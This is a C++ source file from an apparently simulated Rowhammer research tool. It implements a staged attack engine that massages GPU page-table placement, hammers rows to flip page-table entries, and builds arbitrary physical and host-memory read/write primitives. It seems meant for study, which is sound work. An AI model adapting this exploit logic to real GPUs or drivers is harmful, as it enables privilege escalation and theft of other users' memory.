// Copyright 2026 The rhsim Authors.
// SPDX-License-Identifier: Apache-2.0

#include "rhsim/attack_engine.hpp"

#include <algorithm>
#include <numeric>

#include "rhsim/page_table.hpp"

namespace rhsim {

namespace {

constexpr std::uint32_t kRegionAllocations = 508;  // 2 MiB + 4 KiB allocations per PT region

std::uint32_t pt_page_index(std::uint32_t i) { return i + i / 128 + 1; }

}  // namespace

const char* phase_name(Phase p) {
  switch (p) {
    case Phase::fill: return "fill";
    case Phase::massage: return "massage";
    case Phase::hammer_scan: return "hammer_scan";
    case Phase::remassage: return "remassage";
    case Phase::escalated: return "escalated";
    case Phase::failed: return "failed";
  }
  return "?";
}

const char* scan_name(ScanKind k) {
  switch (k) {
    case ScanKind::no_flip: return "no_flip";
    case ScanKind::foreign_destination: return "foreign_destination";
    case ScanKind::own_destination: return "own_destination";
  }
  return "?";
}

// ---------------------------------------------------------------- ArbitraryRW

ArbitraryRW::ArbitraryRW(GuestSession& g, std::vector<Window> windows,
                         std::vector<std::uint64_t> thrash)
    : g_(g), windows_(std::move(windows)), thrash_(std::move(thrash)) {}

void ArbitraryRW::set_entry(std::size_t w, std::uint64_t raw) {
  g_.write_u64(windows_.at(w).control_va, raw);
}

std::uint64_t ArbitraryRW::entry(std::size_t w) { return g_.read_u64(windows_.at(w).control_va); }

void ArbitraryRW::thrash() {
  g_.stream_read(thrash_);
  ++thrashes_;
}

std::vector<std::vector<std::uint8_t>> ArbitraryRW::read_frames(
    std::span<const std::uint64_t> frame_addrs) {
  std::vector<std::vector<std::uint8_t>> out;
  out.reserve(frame_addrs.size());
  const std::size_t n = windows_.size();
  for (std::size_t base = 0; base < frame_addrs.size(); base += n) {
    const std::size_t cnt = std::min(n, frame_addrs.size() - base);
    std::vector<std::pair<std::uint64_t, std::uint64_t>> writes;
    for (std::size_t k = 0; k < cnt; ++k)
      writes.emplace_back(windows_[k].control_va,
                          encode_pte(make_pte(frame_addrs[base + k] & ~(kPage4K - 1))));
    g_.scatter_u64(writes);
    thrash();
    for (std::size_t k = 0; k < cnt; ++k) out.push_back(g_.read_data(windows_[k].window_va, kPage4K));
  }
  return out;
}

std::vector<std::uint8_t> ArbitraryRW::read_phys(std::uint64_t phys, std::uint64_t len) {
  std::vector<std::uint8_t> out;
  out.reserve(len);
  while (len > 0) {
    const std::uint64_t off = phys % kPage4K;
    const std::uint64_t n = std::min(len, kPage4K - off);
    set_entry(0, encode_pte(make_pte(phys - off)));
    thrash();
    auto part = g_.read_data(windows_[0].window_va + off, n);
    out.insert(out.end(), part.begin(), part.end());
    phys += n;
    len -= n;
  }
  return out;
}

void ArbitraryRW::write_phys(std::uint64_t phys, std::span<const std::uint8_t> data) {
  std::size_t done = 0;
  while (done < data.size()) {
    const std::uint64_t off = phys % kPage4K;
    const std::uint64_t n = std::min<std::uint64_t>(data.size() - done, kPage4K - off);
    set_entry(0, encode_pte(make_pte(phys - off)));
    thrash();
    g_.write_data(windows_[0].window_va + off, data.subspan(done, n));
    phys += n;
    done += n;
  }
}

void ArbitraryRW::restore() {
  std::vector<std::pair<std::uint64_t, std::uint64_t>> writes;
  for (const auto& w : windows_) writes.emplace_back(w.control_va, w.original);
  g_.scatter_u64(writes);
  thrash();
}

// -------------------------------------------------------------------- HostDma

std::uint64_t HostDma::map(std::uint64_t host_addr) {
  const std::uint64_t off = host_addr % kPage4K;
  rw_.set_entry(w_, encode_pte(make_pte(host_addr - off, kApertureSysmem)));
  rw_.thrash();
  return rw_.windows().at(w_).window_va + off;
}

std::vector<std::uint8_t> HostDma::read(std::uint64_t host_addr, std::uint64_t len) {
  std::vector<std::uint8_t> out;
  out.reserve(len);
  while (len > 0) {
    const std::uint64_t n = std::min(len, kPage4K - host_addr % kPage4K);
    auto part = rw_.session().read_data(map(host_addr), n);
    out.insert(out.end(), part.begin(), part.end());
    host_addr += n;
    len -= n;
  }
  return out;
}

void HostDma::write(std::uint64_t host_addr, std::span<const std::uint8_t> data) {
  std::size_t done = 0;
  while (done < data.size()) {
    const std::uint64_t n =
        std::min<std::uint64_t>(data.size() - done, kPage4K - host_addr % kPage4K);
    rw_.session().write_data(map(host_addr), data.subspan(done, n));
    host_addr += n;
    done += n;
  }
}

std::uint32_t HostDma::read_u32(std::uint64_t host_addr) {
  auto b = read(host_addr, 4);
  return std::uint32_t{b[0]} | std::uint32_t{b[1]} << 8 | std::uint32_t{b[2]} << 16 |
         std::uint32_t{b[3]} << 24;
}

void HostDma::write_u32(std::uint64_t host_addr, std::uint32_t v) {
  const std::uint8_t b[4] = {static_cast<std::uint8_t>(v), static_cast<std::uint8_t>(v >> 8),
                             static_cast<std::uint8_t>(v >> 16),
                             static_cast<std::uint8_t>(v >> 24)};
  write(host_addr, b);
}

// --------------------------------------------------------------- AttackEngine

bool AttackEngine::SpikeDetector::observe(double latency) {
  if (!recent_.empty()) {
    std::vector<double> v(recent_.begin(), recent_.end());
    std::nth_element(v.begin(), v.begin() + v.size() / 2, v.end());
    if (latency > factor_ * v[v.size() / 2]) return true;
  }
  recent_.push_back(latency);
  if (recent_.size() > 255) recent_.pop_front();
  return false;
}

AttackEngine::AttackEngine(GuestSession& g, AttackConfig cfg)
    : g_(g), cfg_(std::move(cfg)), rng_(cfg_.seed) {}

double AttackEngine::latency_mark() {
  const double d = g_.total_latency() - mark_;
  mark_ = g_.total_latency();
  return d;
}

void AttackEngine::phase_done(const char* name) { report_.phase_latency[name] += latency_mark(); }

std::size_t AttackEngine::add_page(std::uint64_t va) {
  pages_.push_back({va});
  page_of_va_[va] = pages_.size() - 1;
  return pages_.size() - 1;
}

std::optional<std::size_t> AttackEngine::oldest_resident() {
  while (oldest_ < pages_.size() && pages_[oldest_].st != St::resident) ++oldest_;
  for (std::size_t i = oldest_; i < pages_.size(); ++i)
    if (pages_[i].st == St::resident && !pages_[i].keep) return i;
  return std::nullopt;
}

void AttackEngine::mirror_evict_oldest() {
  if (auto i = oldest_resident()) pages_[*i].st = St::host;
}

void AttackEngine::open_hole() {
  auto i = oldest_resident();
  if (!i) throw AllocationError("no page left to open a hole with");
  g_.cpu_touch(pages_[*i].va, kPage2M);
  pages_[*i].st = St::host;
}

void AttackEngine::keepalive() {
  std::vector<std::uint64_t> vas;
  for (std::size_t k : keep_)
    if (pages_[k].st == St::resident) vas.push_back(pages_[k].va);
  if (!vas.empty()) g_.gather_u64(vas);
  fills_since_keepalive_ = 0;
}

void AttackEngine::tag_page(std::uint64_t va) {
  std::vector<std::pair<std::uint64_t, std::uint64_t>> w;
  w.reserve(kSlicesPer2M);
  for (std::uint64_t s = 0; s < kSlicesPer2M; ++s) w.emplace_back(va + s * kPage64K, va_tag(va + s * kPage64K));
  g_.scatter_u64(w);
}

bool AttackEngine::fill_allocation(SpikeDetector& det, bool holes) {
  if (holes && g_.mem_get_info() < kPage4K) open_hole();
  const std::uint64_t va = g_.uvm_alloc(kPage2M + kPage4K);
  const double lat = g_.timed_touch(va + kPage2M, kPage4K);
  fills_.push_back(va);
  if (++fills_since_keepalive_ >= cfg_.keepalive_period) keepalive();
  const bool spike = det.observe(lat);
  if (spike) mirror_evict_oldest();
  return spike;
}

void AttackEngine::step1_fill() {
  state_.phase = Phase::fill;
  latency_mark();
  SpikeDetector det(cfg_.spike_factor);
  const std::uint64_t limit = cfg_.geometry.frames_2m() + 64;
  int consecutive = 0;
  while (consecutive < 3) {
    if (pages_.size() > limit) throw AllocationError("memory never filled");
    const std::uint64_t va = g_.uvm_alloc(kPage2M);
    const double lat = g_.timed_touch(va, kPage2M);
    const bool spike = det.observe(lat);
    if (spike) mirror_evict_oldest();
    add_page(va);
    tag_page(va);
    consecutive = spike ? consecutive + 1 : 0;
  }
  report_.fill_pages = static_cast<std::uint32_t>(pages_.size());
  phase_done("fill");
}

void AttackEngine::step2_massage() {
  state_.phase = Phase::massage;
  auto hits = g_.profile_lookup();
  if (!cfg_.site_label.empty())
    std::erase_if(hits, [&](const ProfileHit& h) { return h.label != cfg_.site_label; });
  if (hits.empty()) throw AllocationError("no usable flip site in own memory");
  site_ = hits[std::uniform_int_distribution<std::size_t>(0, hits.size() - 1)(rng_)];
  report_.site_label = site_->label;
  report_.pte_bit = site_->pte_bit;
  report_.site_offset = site_->offset;
  site_m_ = static_cast<std::uint32_t>(site_->offset / kPt64KSize);
  site_j_ = static_cast<std::uint32_t>((site_->offset % kPt64KSize) / 8);
  for (std::uint64_t va : {site_->victim_va, site_->low_va, site_->high_va}) {
    const std::size_t k = page_of_va_.at(va);
    pages_[k].keep = true;
    keep_.push_back(k);
  }
  keepalive();

  SpikeDetector det(cfg_.spike_factor);
  // Fill with fresh latency history so the first spike is judged against
  // small allocations rather than the last fill touches.
  for (int tries = 0;; ++tries) {
    if (tries > 8 * static_cast<int>(kRegionAllocations))
      throw AllocationError("massage never observed a regular spike period");
    const std::uint32_t idx = static_cast<std::uint32_t>(fills_.size());
    if (!fill_allocation(det, true)) continue;
    report_.massage_spikes.push_back(idx);
    const auto& s = report_.massage_spikes;
    if (s.size() >= 2 && s[s.size() - 1] - s[s.size() - 2] == kRegionAllocations) break;
  }
  report_.massage_period = report_.massage_spikes.back() -
                           report_.massage_spikes[report_.massage_spikes.size() - 2];
  for (std::uint32_t i = 1; i < kRegionAllocations; ++i)
    if (fill_allocation(det, true))
      throw AllocationError("unexpected spike while filling the PT region");
  report_.massage_allocations = static_cast<std::uint32_t>(fills_.size());
  next_absorber_ = 0;

  if (cfg_.open_target_hole) {
    g_.cpu_touch(site_->victim_va, kPage2M);
    pages_[page_of_va_.at(site_->victim_va)].st = St::host;
    open_hole();
  }
  phase_done("massage");
}

void AttackEngine::dense_fill() {
  std::vector<std::size_t> dense;
  for (std::size_t i = pages_.size(); i-- > 0 && dense.size() < cfg_.dense_pages;)
    if (pages_[i].st == St::resident && !pages_[i].keep) dense.push_back(i);
  if (dense.size() < cfg_.dense_pages || site_m_ >= dense.size())
    throw AllocationError("not enough resident pages to splinter");
  std::shuffle(dense.begin(), dense.end(), rng_);
  order_ = std::move(dense);
  for (std::size_t i = 0; i < order_.size(); ++i) {
    Page& p = pages_[order_[i]];
    p.c = static_cast<std::uint8_t>((site_j_ + 1 + i % (kSlicesPer2M - 1)) % kSlicesPer2M);
    g_.cpu_touch(p.va + p.c * kPage64K, kPage64K);
    p.st = St::dense;
  }
  corrupted_va_ = pages_[order_[site_m_]].va + site_j_ * kPage64K;
  report_.dense_pages = static_cast<std::uint32_t>(order_.size());
  report_.dense_budget_bytes = order_.size() * kPage2M;
  phase_done("massage");
}

std::vector<std::uint64_t> AttackEngine::dense_vas() const {
  std::vector<std::uint64_t> out;
  for (std::size_t i : order_) out.push_back(pages_[i].va);
  return out;
}

std::vector<std::uint64_t> AttackEngine::dense_slices(std::size_t limit) const {
  std::vector<std::uint64_t> out;
  for (std::size_t i : order_) {
    const Page& p = pages_[i];
    if (p.st != St::dense) continue;
    for (std::uint64_t s = 0; s < kSlicesPer2M && out.size() < limit; ++s)
      if (s != p.c) out.push_back(p.va + s * kPage64K);
    if (out.size() >= limit) break;
  }
  return out;
}

void AttackEngine::thrash() { g_.stream_read(dense_slices(cfg_.thrash_pages)); }

void AttackEngine::reshuffle() {
  std::vector<std::uint64_t> set{corrupted_va_};
  for (std::size_t i : order_) {
    const Page& p = pages_[i];
    if (p.st != St::dense) continue;
    for (std::uint64_t s = 0; s < kSlicesPer2M && set.size() < cfg_.reshuffle_slices; ++s) {
      const std::uint64_t va = p.va + s * kPage64K;
      if (s != p.c && va != corrupted_va_) set.push_back(va);
    }
    if (set.size() >= cfg_.reshuffle_slices) break;
  }
  std::shuffle(set.begin(), set.end(), rng_);
  for (std::uint64_t va : set) g_.cpu_touch(va, kPage64K);
  std::shuffle(set.begin(), set.end(), rng_);
  for (std::uint64_t va : set) g_.timed_touch(va, kPage64K);
}

ScanOutcome AttackEngine::step3_hammer_scan() {
  state_.phase = Phase::hammer_scan;
  reshuffle();
  const std::uint64_t row_off = site_->offset & ~std::uint64_t{cfg_.geometry.row_size - 1};
  const std::uint64_t agg[2] = {site_->low_va + row_off, site_->high_va + row_off};
  g_.hammer_own(agg);
  thrash();

  const auto vas = dense_slices(SIZE_MAX);
  const auto vals = g_.gather_u64(vas);
  ScanOutcome out;
  for (std::size_t i = 0; i < vas.size(); ++i) {
    const std::optional<std::uint64_t>& v = vals[i];
    if (v && *v == va_tag(vas[i])) continue;
    if (v && is_tag(*v)) {
      out = {ScanKind::own_destination, vas[i], tag_va(*v)};
      break;
    }
    if (out.kind == ScanKind::no_flip) out = {ScanKind::foreign_destination, vas[i], 0};
  }
  ++report_.step3_attempts;
  report_.attempt_outcomes.emplace_back(scan_name(out.kind));
  if (out.kind == ScanKind::own_destination && report_.attempts_to_first_own == 0)
    report_.attempts_to_first_own = report_.step3_attempts;
  if (out.kind != ScanKind::no_flip) state_.corrupted_va = out.corrupted_va;
  if (out.kind == ScanKind::own_destination) state_.destination_va = out.destination_va;
  phase_done("hammer_scan");
  return out;
}

std::optional<ArbitraryRW> AttackEngine::step4_remassage_and_build() {
  state_.phase = Phase::remassage;
  auto fail = [&]() -> std::optional<ArbitraryRW> {
    ++report_.step4_failures;
    phase_done("remassage");
    return std::nullopt;
  };
  if (!state_.destination_va || !state_.corrupted_va) return fail();
  const std::uint64_t c_va = *state_.corrupted_va;
  const std::uint64_t q = *state_.destination_va;
  const std::uint64_t qpage = q & ~(kPage2M - 1);
  const std::uint64_t o = q - qpage;
  const std::uint64_t c_page = c_va & ~(kPage2M - 1);
  if (qpage == site_->low_va || qpage == site_->high_va || qpage == c_page) return fail();

  // Finish a PT region left half full by an earlier failed attempt.
  if (region_allocs_ > 0) {
    SpikeDetector det(cfg_.spike_factor);
    for (std::uint32_t i = region_allocs_; i < kRegionAllocations; ++i) fill_allocation(det, false);
    region_allocs_ = 0;
  }

  const std::uint64_t ka[4] = {site_->low_va, site_->high_va, c_va, q};
  g_.gather_u64(ka);

  // Absorb fully free 2 MiB frames into never-touched large halves of the
  // massage allocations; their directory entries already exist.
  const auto qit = page_of_va_.find(qpage);
  if (qit != page_of_va_.end()) pages_[qit->second].keep = true;
  {
    SpikeDetector det(cfg_.spike_factor);
    for (int i = 0; i < 16; ++i) det.observe(g_.timed_touch(ka[i % 2], 8));
    while (next_absorber_ < report_.massage_allocations) {
      const std::uint64_t va = fills_[next_absorber_++];
      const double lat = g_.timed_touch(va, kPage2M);
      tag_page(va);
      const bool spike = det.observe(lat);
      if (spike) mirror_evict_oldest();
      add_page(va);
      if (spike) break;
    }
  }
  if (qit != page_of_va_.end()) pages_[qit->second].keep = false;

  g_.cpu_touch(qpage, kPage2M);
  if (qit != page_of_va_.end()) pages_[qit->second].st = St::host;

  const std::uint32_t first_pt = static_cast<std::uint32_t>(o / kPage4K);
  std::vector<std::pair<std::uint32_t, std::uint64_t>> win;  // (pt page, window va)
  std::vector<std::pair<std::uint64_t, std::uint64_t>> tags;
  for (std::uint32_t i = 0; i < kRegionAllocations; ++i) {
    const std::uint32_t p = pt_page_index(i);
    if (p >= first_pt + kFramesPer64K) break;
    const std::uint64_t va = g_.uvm_alloc(kPage2M + kPage4K);
    g_.timed_touch(va + kPage2M, kPage4K);
    ++region_allocs_;
    if (p >= first_pt) {
      win.emplace_back(p, va + kPage2M);
      tags.emplace_back(va + kPage2M, va_tag(va + kPage2M));
    }
  }
  g_.scatter_u64(tags);
  thrash();

  std::vector<ArbitraryRW::Window> windows;
  std::vector<std::uint64_t> ctl;
  for (auto [p, wva] : win) ctl.push_back(c_va + (p - first_pt) * kPage4K);
  const auto raw = g_.gather_u64(ctl);
  for (std::size_t k = 0; k < win.size(); ++k) {
    if (!raw[k]) continue;
    const Pte e = decode_pte(*raw[k]);
    if (!e.flags.valid || is_sysmem(e.flags.aperture) || e.pfn == 0) continue;
    windows.push_back({win[k].second, ctl[k], *raw[k]});
  }
  if (windows.size() < 2) return fail();

  std::vector<std::uint64_t> thrash_set = dense_slices(cfg_.thrash_pages);
  std::erase_if(thrash_set, [&](std::uint64_t va) { return (va & ~(kPage2M - 1)) == qpage; });
  ArbitraryRW rw(g_, std::move(windows), std::move(thrash_set));

  const auto& w = rw.windows();
  rw.set_entry(0, w[1].original);
  rw.thrash();
  const bool swapped = g_.read_u64(w[0].window_va) == va_tag(w[1].window_va);
  rw.set_entry(0, w[0].original);
  rw.thrash();
  const bool restored = g_.read_u64(w[0].window_va) == va_tag(w[0].window_va);
  if (!swapped || !restored) return fail();

  region_allocs_ = 0;
  report_.windows = static_cast<std::uint32_t>(rw.windows().size());
  report_.corrupted_va = c_va;
  report_.destination_va = q;
  phase_done("remassage");
  return rw;
}

std::optional<ArbitraryRW> AttackEngine::run() {
  try {
    step1_fill();
    step2_massage();
    dense_fill();
  } catch (const SimError& e) {
    state_.phase = Phase::failed;
    report_.failure = e.what();
    return std::nullopt;
  }
  std::uint32_t since_own = 0;
  while (since_own < cfg_.max_step3_retries) {
    const ScanOutcome s = step3_hammer_scan();
    ++state_.retries;
    if (s.kind != ScanKind::own_destination) {
      ++since_own;
      continue;
    }
    since_own = 0;
    auto rw = step4_remassage_and_build();
    if (rw) {
      report_.success = true;
      return rw;
    }
    if (report_.step4_failures >= cfg_.max_step4_failures) {
      state_.phase = Phase::failed;
      report_.failure = "page-table rebuild failed too often";
      return std::nullopt;
    }
  }
  state_.phase = Phase::failed;
  report_.failure = "no own-destination flip within the retry budget";
  return std::nullopt;
}

HostDma AttackEngine::escalate_to_host(ArbitraryRW& rw, std::size_t window) {
  state_.phase = Phase::escalated;
  return HostDma(rw, window);
}

}  // namespace rhsim
